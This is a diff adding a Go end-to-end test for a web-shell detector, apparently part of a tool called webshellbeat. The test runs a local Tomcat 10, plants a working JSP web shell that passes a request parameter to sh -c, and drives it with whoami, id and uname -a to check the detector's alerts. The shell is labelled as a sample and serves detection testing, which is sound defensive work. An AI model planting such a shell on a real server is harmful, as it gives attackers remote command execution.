@@ -1,0 +1,195 @@
+//go:build linux
+
+package tests
+
+import (
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"webshellbeat/detection"
+)
+
+// The Tomcat site of .ci/linux-e2e.sh.
+const (
+	tomcatPort    = 18082
+	tomcatHome    = "/usr/share/tomcat10"
+	tomcatBase    = "/var/lib/tomcat10"
+	tomcatWebapps = tomcatBase + "/webapps"
+	tomcatLog     = "/var/log/tomcat10/wsb-access.log"
+)
+
+// A JSP web shell: runs its c parameter through sh -c, as the JSP shells
+// of the wild do with Runtime.exec.
+const jspShell = `<%@ page import="java.io.*" contentType="text/plain" %><%
+String c = request.getParameter("c");
+if (c != null) {
+  Process p = Runtime.getRuntime().exec(new String[]{"sh", "-c", c});
+  BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
+  for (String l; (l = r.readLine()) != null; ) { out.println(l); }
+  p.waitFor();
+}
+%>
+`
+
+// startTomcat runs Tomcat as the tomcat user, as its service does, and
+// stops it (SIGTERM to the JVM) at cleanup.
+func startTomcat(t *testing.T) {
+	t.Helper()
+	pidFile := filepath.Join(t.TempDir(), "tomcat.pid")
+	_ = os.Chmod(filepath.Dir(pidFile), 0o777)
+	cmd := exec.Command("runuser", "-u", "tomcat", "--", "env", "CATALINA_HOME="+tomcatHome, "CATALINA_BASE="+tomcatBase,
+		"CATALINA_TMPDIR=/tmp", "CATALINA_PID="+pidFile, "JAVA_OPTS=-Djava.awt.headless=true", tomcatHome+"/bin/catalina.sh", "start")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("catalina.sh start: %v\n%s", err, out)
+	}
+	t.Cleanup(func() {
+		b, err := os.ReadFile(pidFile)
+		pid, _ := strconv.Atoi(strings.TrimSpace(string(b)))
+		if err != nil || pid <= 0 {
+			return
+		}
+		_ = syscall.Kill(pid, syscall.SIGTERM)
+		for i := 0; i < 200 && syscall.Kill(pid, 0) == nil; i++ {
+			time.Sleep(50 * time.Millisecond)
+		}
+		waitClosed(tomcatPort)
+	})
+	for deadline := time.Now().Add(60 * time.Second); ; time.Sleep(200 * time.Millisecond) {
+		if out, err := exec.Command("curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", fmt.Sprintf("http://127.0.0.1:%d/", tomcatPort)).Output(); err == nil && string(out) == "200" {
+			return
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("Tomcat does not answer on 127.0.0.1:%d", tomcatPort)
+		}
+	}
+}
+
+// TestLiveTomcat runs a real Tomcat 10 (java), plants a JSP web shell in
+// its web root while the beat reads the kernel's audit stream and Tomcat's
+// access log, drives the shell with curl, and checks what a Java web shell
+// should raise: each command's shell alerted with java (Tomcat, known by
+// its command line) in its ancestry and the request that drove it, the
+// JSP's write and first use joined in one alert, and nothing high for the
+// site's own pages.
+func TestLiveTomcat(t *testing.T) {
+	liveReady(t)
+	for _, f := range []string{tomcatHome + "/bin/catalina.sh", tomcatLog, tomcatWebapps + "/ROOT/hello.jsp"} {
+		if _, err := os.Stat(f); err != nil {
+			if os.Getenv("CI") != "" {
+				t.Fatalf("live Tomcat test: %v (run .ci/linux-e2e.sh as root first)", err)
+			}
+			t.Skipf("live Tomcat test: %v", err)
+		}
+	}
+	shellPath := filepath.Join(tomcatWebapps, "ROOT", "cmd.jsp")
+	t.Cleanup(func() { _ = os.Remove(shellPath) })
+	_ = os.Remove(shellPath)
+	rulesBefore, _ := exec.Command("auditctl", "-l").Output()
+	startTomcat(t) // before the beat, as a server runs long before its agent
+
+	dir := t.TempDir()
+	cfg := fmt.Sprintf(`webshellbeat.inputs:
+- type: auditd
+  id: audit-live
+  web_roots: [%q]
+- type: filestream
+  id: tomcat-live
+  paths: [%q]
+  prospector.scanner.fingerprint.enabled: false
+  prospector.scanner.check_interval: 200ms
+  processors:
+    - decode_access_log: {format: combined, server: tomcat}
+processors:
+  - webshell: {events: all}
+queue.mem.flush.timeout: 0s
+output.file: {path: %q, filename: out}
+path.data: %q
+path.logs: %q
+`, tomcatWebapps, tomcatLog, filepath.Join(dir, "out"), filepath.Join(dir, "data"), filepath.Join(dir, "logs"))
+	logPath, stop := startLiveBeat(t, dir, cfg)
+
+	base := fmt.Sprintf("http://127.0.0.1:%d", tomcatPort)
+	benignStart := time.Now()
+	curl(t, base+"/")
+	if out := curl(t, base+"/hello.jsp"); !strings.Contains(out, "Hello from Apache Tomcat") {
+		t.Fatalf("hello.jsp: %q", out)
+	}
+	time.Sleep(2 * time.Second)
+	benignEnd := time.Now()
+
+	// The attacker's JSP lands in the web root (how it got there, a
+	// vulnerable upload or a deployed WAR, is not the point here).
+	if err := os.WriteFile(shellPath, []byte(jspShell), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cmds := []string{"whoami", "id", "uname -a"}
+	out := &outputTail{dir: filepath.Join(dir, "out")}
+	for _, c := range cmds {
+		sent := time.Now()
+		if body := curl(t, base+"/cmd.jsp?c="+urlQuery(c)); strings.TrimSpace(body) == "" {
+			t.Fatalf("cmd.jsp?c=%s answered nothing", c)
+		}
+		var found map[string]any
+		for deadline := sent.Add(20 * time.Second); found == nil && time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
+			for _, d := range out.next(t) {
+				if isShellAlert(d, c, []string{"java"}, sent) {
+					found = d
+					break
+				}
+			}
+		}
+		if found == nil {
+			t.Errorf("cmd.jsp?c=%s: no alert for `sh -c %s` with java in its ancestry within 20 s", c, c)
+			continue
+		}
+		t.Logf("cmd.jsp?c=%-8s -> %q (user %s, severity %v, ancestry %v) in %v", c, detection.LookupString(found, "message"),
+			detection.LookupString(found, "user.name"), lookup(found, "event.severity"), ancestry(found), time.Since(sent).Round(time.Millisecond))
+	}
+
+	time.Sleep(2 * time.Second)
+	docs := readDocs(t, dir)
+	for _, c := range cmds {
+		if !slices.ContainsFunc(docs, func(d map[string]any) bool {
+			return isShellAlert(d, c, []string{"java"}, time.Time{}) && strings.HasPrefix(detection.LookupString(d, "webshell.request.url.original"), "/cmd.jsp?")
+		}) {
+			t.Errorf("cmd.jsp?c=%s: no alert of its shell carries the request (webshell.request.url.original)", c)
+		}
+	}
+	uploads := 0
+	for _, d := range docs {
+		if slices.Contains(ids(d), "2f6c1a4e-8d3b-4f7a-9c2e-5b1d0e7a3c91") && strings.HasSuffix(detection.LookupString(d, "file.path"), "/cmd.jsp") {
+			uploads++
+		}
+		sev, _ := lookup(d, "event.severity").(float64)
+		if detection.LookupString(d, "event.kind") != "alert" || sev < 73 || isDerived(d) {
+			continue
+		}
+		benign := slices.Contains([]string{"/", "/hello.jsp"}, detection.LookupString(d, "url.original"))
+		if ts, err := time.Parse(time.RFC3339Nano, detection.LookupString(d, "@timestamp")); err == nil && detection.LookupString(d, "url.original") == "" {
+			benign = !ts.Before(benignStart) && ts.Before(benignEnd)
+		}
+		if benign {
+			t.Errorf("the site's own pages raised a high alert: %q %q, rules %v", detection.LookupString(d, "process.command_line"), detection.LookupString(d, "url.original"), ids(d))
+		}
+	}
+	if uploads != 1 {
+		t.Errorf("%d upload-then-use alerts for cmd.jsp, want 1", uploads)
+	}
+
+	stop()
+	if rulesAfter, _ := exec.Command("auditctl", "-l").Output(); string(rulesAfter) != string(rulesBefore) {
+		t.Errorf("audit rules not restored:\nbefore:\n%s\nafter:\n%s", rulesBefore, rulesAfter)
+	}
+	if t.Failed() {
+		b, _ := os.ReadFile(logPath)
+		t.Logf("beat log tail:\n%s", tail(b, 4000))
+	}
+}
